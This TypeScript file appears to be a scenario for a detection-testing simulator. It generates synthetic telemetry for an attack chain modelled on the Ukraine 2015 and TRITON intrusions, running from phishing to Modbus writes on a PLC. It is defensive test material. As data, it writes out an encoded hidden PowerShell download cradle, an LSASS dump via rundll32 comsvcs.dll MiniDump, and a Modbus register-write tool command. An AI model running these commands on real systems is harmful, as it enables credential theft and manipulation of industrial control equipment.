// Phishing -> credential theft -> RDP to the jump host -> engineering workstation -> Modbus writes.
// Ukraine 2015 (BlackEnergy 3 via macro documents, harvested credentials, remote operation of the control
// system) and the TRITON actor's IT -> DMZ jump host -> EWS path (Mandiant 2019), compressed to minutes.
import { systemProcess } from "../emitter.ts";
import { connClosed, modbusExchange, modbusRead, tcpSummary } from "../ics.ts";
import type { Scenario } from "./scenario.ts";
import { entitiesOf, icsConnect, launch, rdpHop } from "./steps.ts";

export const phishingToModbusWrite: Scenario = {
  name: "phishing-to-modbus-write",
  title: "Phishing -> credential theft -> jump host -> EWS -> Modbus writes",
  references: [
    "E-ISAC/SANS, Analysis of the Cyber Attack on the Ukrainian Power Grid (2016)",
    "Mandiant, TRITON Actor TTP Profile, Custom Attack Tools, Detections, and ATT&CK Mapping (2019)",
    "MITRE ATT&CK for ICS C0028 2015 Ukraine Electric Power Attack",
  ],
  techniques: ["T1566.001", "T1204.002", "T1059.001", "T1003.001", "T1021.001", "T0886", "T0859", "T0855", "T0836"],
  requiredTechniques: ["T0886", "T0859"],
  expectedRules: ["GW-0402"],
  inject(e, t0, chain) {
    const laptop = e.plant.byRole("it_workstation")[0]!;
    const jump = e.plant.get("jh01");
    const ews = e.plant.byRole("engineering_workstation")[0]!;
    const plc = e.plant.byRole("plc").find((p) => p.protocols[0] === "modbus")!;
    const victim = e.user(laptop);
    const outlook = launch(
      e,
      chain,
      laptop,
      t0 - 30_000,
      systemProcess("explorer"),
      "C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE",
      '"C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE"',
      victim,
    );
    const word = launch(
      e,
      chain,
      laptop,
      t0,
      outlook,
      "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE",
      `"C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE" /n "C:\\Users\\${victim.name}\\AppData\\Local\\Microsoft\\Windows\\INetCache\\Content.Outlook\\Q4\\Invoice_0342.docm"`,
      victim,
    );
    const powershell = launch(
      e,
      chain,
      laptop,
      t0 + 9_000,
      word,
      "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
      "powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA",
      victim,
    );
    e.edr(
      {
        kind: "alert",
        time: t0 + 9_400,
        host: laptop,
        ruleId: "c0b0c9a4-5ff5-4e33-8b4e-b2e2e6f0b3c1",
        ruleName: "Suspicious Microsoft Office Child Process",
        severity: 73,
        tactic: { id: "TA0001", name: "Initial Access" },
        technique: { id: "T1566.001", name: "Spearphishing Attachment" },
        process: powershell,
        user: victim,
      },
      chain,
    );
    e.edr(
      {
        kind: "network",
        time: t0 + 40_000,
        host: laptop,
        process: powershell,
        user: victim,
        transport: "tcp",
        direction: "egress",
        sourceIp: laptop.ip,
        sourcePort: e.ephemeralPort(),
        destinationIp: e.plant.plant.external.attacker,
        destinationPort: 443,
      },
      chain,
    );
    const dump = launch(
      e,
      chain,
      laptop,
      t0 + 120_000,
      powershell,
      "C:\\Windows\\System32\\rundll32.exe",
      "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 712 C:\\Users\\Public\\lsass.dmp full",
      victim,
    );
    e.edr(
      {
        kind: "alert",
        time: t0 + 120_300,
        host: laptop,
        ruleId: "f9a1b2c3-d4e5-4f60-8a7b-9c0d1e2f3a4b",
        ruleName: "LSASS Memory Dump via Comsvcs",
        severity: 99,
        tactic: { id: "TA0006", name: "Credential Access" },
        technique: { id: "T1003.001", name: "LSASS Memory" },
        process: dump,
        user: victim,
      },
      chain,
    );
    // Stolen credentials: the engineer's corporate account to the jump host, then the OT admin account.
    rdpHop(e, chain, laptop, jump, t0 + 300_000, e.user(jump, victim.name, "CORP"), 900_000);
    const otUser = e.user(ews, `${victim.name}.adm`, "OT");
    const hop = rdpHop(e, chain, jump, ews, t0 + 420_000, otUser, 600_000);
    const cmd = launch(
      e,
      chain,
      ews,
      hop.arrivedAt + 60_000,
      systemProcess("explorer"),
      "C:\\Windows\\System32\\cmd.exe",
      '"C:\\Windows\\System32\\cmd.exe"',
      otUser,
    );
    const tool = launch(
      e,
      chain,
      ews,
      hop.arrivedAt + 90_000,
      cmd,
      "C:\\Users\\Public\\Python311\\python.exe",
      `python.exe C:\\Users\\Public\\mbw.py --host ${plc.ip} --unit 1 --write 100`,
      otUser,
    );
    const startAt = hop.arrivedAt + 92_000;
    const c = icsConnect(e, chain, ews, tool, otUser, plc, 502, startAt);
    modbusRead(e, startAt + 200, c, 1, 1, 100, 4, { chain });
    modbusRead(e, startAt + 900, c, 2, 1, 0, 10, { chain });
    let last = startAt;
    const firstWrite = startAt + 5_000;
    for (let i = 0; i < 5; i++) {
      last = startAt + 5_000 + i * 1_500;
      modbusExchange(
        e,
        last,
        c,
        {
          tid: 3 + i,
          unit: 1,
          func: "WRITE_MULTIPLE_REGISTERS",
          address: 100,
          quantity: 4,
          requestValues: [9999, 9999, 0, 1],
        },
        { chain },
      );
    }
    connClosed(e, startAt, c, tcpSummary("modbus", last - startAt + 400, 7), { chain });
    return {
      entities: entitiesOf([laptop, jump, ews, plc], [victim.name, otUser.name]),
      lastEventAt: last,
      detectableAt: firstWrite,
      endedAt: last + 400,
    };
  },
};
